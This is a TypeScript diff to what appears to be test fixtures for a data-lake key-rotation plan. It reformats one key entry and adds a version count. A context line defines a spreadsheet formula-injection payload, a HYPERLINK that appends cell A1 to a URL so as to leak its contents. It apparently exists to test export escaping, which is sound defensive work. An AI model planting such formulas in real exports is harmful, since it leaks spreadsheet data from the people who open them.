@@ -7,15 +7,19 @@ const FORMULA = `=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open me")`;
 export function specialLakePlans(at: At): Record<string, KeyPlan[]> {
   return {
     "Data lake/cn-hangzhou": [
-      key("lake/bronze-raw", {
-        description: "Raw zone",
-        rotation: "on",
-        rotationIntervalDays: 365,
-        createdAt: at(-900.3),
-        lastRotatedAt: at(-170.3),
-        nextRotationAt: at(194.7),
-        tags: tags("prod", "lake"),
-      }),
+      key(
+        "lake/bronze-raw",
+        {
+          description: "Raw zone",
+          rotation: "on",
+          rotationIntervalDays: 365,
+          createdAt: at(-900.3),
+          lastRotatedAt: at(-170.3),
+          nextRotationAt: at(194.7),
+          tags: tags("prod", "lake"),
+        },
+        { versions: 105 },
+      ),
       key("audit/trail-seal", {
         description: "审计日志签名",
         spec: "sm2",
